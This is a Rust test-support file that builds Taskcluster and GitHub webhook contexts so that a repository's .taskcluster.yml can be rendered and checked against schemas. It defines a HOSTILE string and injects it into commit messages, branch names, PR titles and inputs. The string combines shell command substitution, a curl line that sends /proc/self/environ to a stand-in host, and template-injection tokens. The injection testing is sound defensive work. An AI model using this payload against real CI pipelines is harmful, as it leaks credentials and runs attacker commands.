//! A `.taskcluster.yml`, and the contexts in which its readers render it: every event, as Taskcluster's GitHub service,
//! build-decision and the hooks of actions describe it.

use serde_json::{Value, json};

use crate::fleet::schemas::Schemas;
use crate::services;
use crate::support::Repo;

/// What git and GitHub allow in a name, and a shell or a template would act upon.
pub(crate) const HOSTILE: &str =
    "-x';curl${IFS}-d@/proc/self/environ${IFS}evil;'$(id)`id`|{$eval: 1}{{x}}\"";
pub(crate) const OWN_ID: &str = "fN1SbArXTPSVFNUvaOlinQ";
pub(crate) const GROUP: &str = "BGGkJrLDQuyXPdQiPKpCnA";
pub(crate) const BASE: &str = "1111111111111111111111111111111111111111";
pub(crate) const HEAD: &str = "2222222222222222222222222222222222222222";
pub(crate) const NOTHING: &str = "0000000000000000000000000000000000000000";

/// A `.taskcluster.yml` and the names in it.
pub(crate) struct Project {
    pub(crate) name: &'static str,
    pub(crate) owner: &'static str,
    pub(crate) prefix: &'static str,
    pub(crate) file: Value,
}

impl Project {
    pub(crate) fn read(
        name: &'static str,
        owner: &'static str,
        prefix: &'static str,
        text: &str,
    ) -> Self {
        // Only the service has this function, so this stands in for what it answers.
        let text = text.replace("as_slugid(\"decision_task\")", &format!("\"'{OWN_ID}'\""));
        let file = serde_yaml::from_str(&text).unwrap();
        Self {
            name,
            owner,
            prefix,
            file,
        }
    }

    /// This repository's.
    pub(crate) fn own() -> Self {
        let text = root_file(".taskcluster.yml");
        Self::read("taskgraph-images", "taskcluster", "TASKGRAPH_IMAGES", &text)
    }

    /// What `init` writes.
    pub(crate) fn new() -> Self {
        let repo = Repo::empty(&[]);
        let url = "https://github.com/example/worker-images";
        let ran = repo.run(&["init", "--trust-domain", "mobile-os", "--repository", url]);
        assert_eq!(ran.code, Some(0), "{}", ran.block());
        let text = std::fs::read_to_string(repo.path.join(".taskcluster.yml")).unwrap();
        Self::read("worker-images", "example", "MOBILE_OS", &text)
    }

    pub(crate) fn url(&self) -> String {
        format!("https://github.com/{}/{}", self.owner, self.name)
    }

    pub(crate) fn trust_domain(&self) -> String {
        self.prefix.to_lowercase().replace('_', "-")
    }

    /// The tasks of an event.
    pub(crate) fn render(&self, context: &Value) -> Vec<Value> {
        let mut context = context.clone();
        // What no reader but the GitHub service and build-decision knows must not be needed.
        assert!(context.get("taskcluster_root_url").is_none());
        context["now"] = "2026-11-25T17:00:00.000Z".into();
        let rendered = json_e::render(&self.file["tasks"], &context)
            .unwrap_or_else(|error| panic!("{error}: {context:#}"));
        rendered.as_array().unwrap().clone()
    }

    /// The one task of an event, which the services take.
    pub(crate) fn task(&self, context: &Value) -> Value {
        let tasks = self.render(context);
        let [task] = &tasks[..] else {
            panic!("{} tasks", tasks.len())
        };
        let mut definition = task.clone();
        let id = definition.as_object_mut().unwrap().remove("taskId");
        let is_action = context["tasks_for"].as_str().unwrap().contains("action");
        assert_eq!(
            id.is_none(),
            is_action,
            "a hook's task gets its id from the hook"
        );
        if let Some(schemas) = Schemas::from_environment() {
            assert_eq!(
                schemas.faults(&definition),
                Vec::<String>::new(),
                "{task:#}"
            );
        }
        task.clone()
    }

    pub(crate) fn repository(&self, owner: &str) -> Value {
        json!({
            "name": self.name,
            "full_name": format!("{owner}/{}", self.name),
            "html_url": format!("https://github.com/{owner}/{}", self.name),
            "clone_url": format!("https://github.com/{owner}/{}.git", self.name),
            "owner": {"login": owner, "name": owner},
        })
    }

    /// What the service makes of a webhook that it accepts.
    pub(crate) fn webhook(tasks_for: &str, kind: &str, event: Value) -> Value {
        let schema = format!("github/v1/webhook-{kind}-payload.json");
        assert_eq!(
            services::faults(&schema, &event),
            Vec::<String>::new(),
            "{event:#}"
        );
        json!({"tasks_for": tasks_for, "event": event})
    }

    pub(crate) fn push_by(&self, owner: &str, reference: &str) -> Value {
        let event = json!({
            "ref": reference, "before": BASE, "after": HEAD, "base_ref": null, "created": false, "deleted": false,
            "repository": self.repository(owner),
            "pusher": {"name": "somebody", "email": "somebody@example.org"},
            "sender": {"login": "somebody"},
            "head_commit": {"id": HEAD, "message": HOSTILE},
            "commits": [{"id": HEAD, "message": HOSTILE}],
        });
        Self::webhook("github-push", "push", event)
    }

    pub(crate) fn push(&self, reference: &str) -> Value {
        self.push_by(self.owner, reference)
    }

    pub(crate) fn pull_request_data(&self) -> Value {
        json!({
            "number": 7, "state": "open", "draft": false, "title": HOSTILE, "user": {"login": "a-stranger[bot]"},
            "labels": [{"name": "taskgraph-images: all"}, {"name": HOSTILE}],
            "head": {"ref": HOSTILE, "sha": HEAD, "repo": self.repository("a-stranger")},
            "base": {"ref": "main", "sha": BASE, "repo": self.repository(self.owner)},
        })
    }

    pub(crate) fn pull_request(&self, tasks_for: &str, action: &str) -> Value {
        let event = json!({
            "action": action, "number": 7,
            "pull_request": self.pull_request_data(),
            "repository": self.repository(self.owner),
            "sender": {"login": "a-stranger[bot]"},
        });
        Self::webhook(tasks_for, "pull-request", event)
    }

    /// The service adds the pull request, as GitHub's API has it, and the words after `/taskcluster`.
    pub(crate) fn comment(&self, action: &str, command: Option<&str>) -> Value {
        let event = json!({
            "action": action,
            "issue": {"number": 7, "title": HOSTILE, "state": "open", "user": {"login": "a-stranger[bot]"}, "pull_request": {}},
            "comment": {"id": 1, "body": format!("/taskcluster {}", command.unwrap_or_default()), "user": {"login": "somebody"}},
            "repository": self.repository(self.owner),
            "sender": {"login": "somebody"},
        });
        let mut context = Self::webhook("github-issue-comment", "issue-comment", event);
        context["event"]["pull_request"] = self.pull_request_data();
        if let Some(command) = command {
            context["event"]["taskcluster_comment"] = command.into();
        }
        context
    }

    /// build-decision's context.
    pub(crate) fn cron(&self) -> Value {
        json!({
            "tasks_for": "cron",
            "ownTaskId": OWN_ID,
            "repository": {"url": self.url(), "project": self.name, "level": "3", "type": "git"},
            "push": {"branch": "main", "revision": HEAD, "owner": "cron"},
            "cron": {"task_id": GROUP, "job_name": "rebuild", "job_symbol": "rebuild",
                "quoted_args": "--target-tasks-method=rebuild --optimize-target-tasks=true", "input": {"force": true}},
        })
    }

    /// The context that fxci-config's hooks of actions set up.
    pub(crate) fn action(&self, tasks_for: &str) -> Value {
        let mut context = json!({
            "tasks_for": tasks_for,
            "ownTaskId": OWN_ID,
            "clientId": "mozilla-auth0/ad|Mozilla-LDAP|somebody/treeherder",
            "taskId": GROUP, "taskGroupId": GROUP,
            "input": {"images": [HOSTILE]},
            "parameters": null,
            "action": {"name": "rebuild", "title": "Rebuild", "description": "Builds anew.", "taskGroupId": GROUP,
                "symbol": "rb", "cb_name": "rebuild", "action_perm": "generic",
                "repo_scope": format!("assume:repo:github.com/{}/{}:action:generic", self.owner, self.name)},
            "repository": {"url": self.url(), "project": self.name, "level": "3"},
            "push": {"owner": "somebody@example.org", "revision": HEAD, "base_revision": BASE, "pushlog_id": "0",
                "branch": "main"},
        });
        if tasks_for == "pr-action" {
            context["repository"]["base_url"] = self.url().into();
            context["repository"]["url"] =
                format!("https://github.com/a-stranger/{}", self.name).into();
            context["push"]["branch"] = HOSTILE.into();
            context["push"]["base_branch"] = "main".into();
        }
        context
    }

    /// Every event that leads to a task.
    pub(crate) fn events(&self) -> Vec<(&'static str, Value)> {
        let untrusted = "github-pull-request-untrusted";
        vec![
            ("push", self.push("refs/heads/main")),
            (
                "push by a fork",
                self.push_by("a-stranger", "refs/heads/main"),
            ),
            ("tag", self.push("refs/tags/v1.0")),
            (
                "pull request",
                self.pull_request("github-pull-request", "opened"),
            ),
            (
                "pull request of a stranger",
                self.pull_request(untrusted, "synchronize"),
            ),
            ("comment", self.comment("created", Some(HOSTILE))),
            ("cron", self.cron()),
            ("action", self.action("action")),
            ("pr-action", self.action("pr-action")),
        ]
    }
}

pub(crate) fn root_file(name: &str) -> String {
    std::fs::read_to_string(format!("{}/../{name}", env!("CARGO_MANIFEST_DIR"))).unwrap()
}
